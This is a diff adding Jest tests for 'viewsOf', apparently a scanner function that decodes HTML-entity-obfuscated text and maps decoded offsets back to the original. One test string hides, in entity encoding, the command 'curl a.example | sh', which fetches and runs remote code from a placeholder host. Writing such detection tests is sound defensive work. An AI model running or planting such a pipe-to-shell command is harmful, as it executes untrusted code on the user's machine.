@@ -100,4 +100,17 @@ describe("viewsOf", () => {
   ])("finds nothing in %j", (text) => {
     expect(viewsOf("a.md", text, DEFAULT_LIMITS)).toHaveLength(1);
   });
+
+  it("reads letters that are written as entities, each at its place", () => {
+    const text = "Run &#99;url&#x20;a.example &#124; sh &amp; go.\n";
+    const view = viewsOf("a.md", text, DEFAULT_LIMITS).find(
+      ({ decoding }) => decoding[0] === "html-entities",
+    );
+    expect(view?.text).toBe("Run curl a.example | sh & go.\n");
+    expect(view?.original({ start: 4, end: 8 })).toEqual({ start: 4, end: 12 });
+  });
+
+  it("leaves entities alone that a page needs", () => {
+    expect(viewsOf("a.md", "a &lt;b&gt; &amp; c &#8212; d", DEFAULT_LIMITS)).toHaveLength(1);
+  });
 });
